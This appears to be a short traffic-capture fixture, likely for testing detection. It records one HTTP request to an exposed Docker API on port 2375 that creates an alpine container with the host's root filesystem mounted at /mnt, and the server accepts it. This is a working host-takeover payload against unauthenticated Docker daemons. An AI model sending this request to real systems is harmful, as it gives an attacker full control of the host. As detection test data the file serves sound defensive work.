# Docker API, root of the host mounted.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:2375

>>>
POST /containers/create?name=x HTTP/1.1\r\n
Host: shop.example\r\n
Content-Type: application/json\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 52\r\n
\r\n
{"Image":"alpine","HostConfig":{"Binds":["/:/mnt"]}}

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
